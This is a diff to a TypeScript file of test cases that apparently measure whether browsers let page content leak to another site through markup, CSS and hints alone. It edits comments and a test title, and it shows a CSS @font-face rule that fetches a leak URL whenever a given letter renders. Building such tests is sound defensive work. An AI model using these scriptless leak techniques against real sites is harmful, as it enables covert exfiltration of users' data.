@@ -1,4 +1,4 @@
-// Telling another site something by markup, styles and hints alone: no script has to run.
+// Exfiltration by markup, styles and hints alone, without a script.
 import type { Attack } from '../attack.ts';
 import { leak, leakUrl, ofClass } from './define.ts';
 
@@ -9,7 +9,7 @@ const WAIT = 'await A.wait(1200)';
 const markup = (id: string, title: string, html: string): Attack => attack(id, title, { html, script: WAIT });
 const style = (id: string, title: string, css: string): Attack =>
   markup(id, title, `<style>${css}</style><p class="leak">leak</p><ul class="leak"><li>leak</ul>`);
-/** A link in the document's head, made by script: hints in the body are not always followed. */
+/** A link in the document's head, made by script, because hints in the body are not always followed. */
 const link = (id: string, title: string, attributes: Record<string, string>, file = 'link'): Attack =>
   attack(id, title, {
     script: `
@@ -102,7 +102,7 @@ export const MARKUP: readonly Attack[] = [
   ),
   style(
     'x73',
-    'CSS: a font for one letter, as a letter is told',
+    'CSS: a font for one letter, as a letter is sent',
     `
     @font-face { font-family: letter; src: url(${leakUrl('letter-l')}); unicode-range: U+6C }
     .leak { font-family: letter }`,
